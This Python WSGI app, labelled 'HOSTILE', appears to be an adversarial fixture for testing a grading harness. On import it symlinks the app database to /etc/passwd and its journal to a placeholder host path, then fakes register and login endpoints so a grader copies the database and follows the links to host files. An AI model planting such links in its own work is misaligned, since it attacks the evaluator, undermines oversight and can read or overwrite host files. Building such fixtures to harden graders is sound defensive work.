"""HOSTILE: makes the database path a symbolic link (to /etc/passwd, its journal to a host path).

The hidden suite copies /data/app.db out of the container; a grader that followed the link on the
host side would read or overwrite a host file. It answers register and login so that the suite
gets as far as copying the database.
"""

import json
import os
import sys

for link, target in [("/data/app.db", "/etc/passwd"), ("/data/app.db-journal", "{{SENTINEL_FILE}}")]:
    try:
        os.symlink(target, link)
        print(f"DBLINK {link} -> {target}", file=sys.stderr, flush=True)
    except FileExistsError:
        pass


def app(environ, start_response):
    path, method = environ.get("PATH_INFO"), environ.get("REQUEST_METHOD")
    if path == "/login":
        start_response("200 OK", [("Content-Type", "text/html")])
        return [b"<form></form>"]
    if method == "POST" and path in ("/api/register", "/api/login"):
        try:
            body = json.loads(environ["wsgi.input"].read(int(environ.get("CONTENT_LENGTH") or 0)) or b"{}")
        except ValueError:
            body = {}
        status = "201 CREATED" if path == "/api/register" else "200 OK"
        start_response(status, [("Content-Type", "application/json"), ("Set-Cookie", "session=x; HttpOnly; SameSite=Lax")])
        return [json.dumps({"id": 1, "username": body.get("username")}).encode()]
    start_response("404 Not Found", [("Content-Type", "application/json")])
    return [b'{"error": "not found"}']
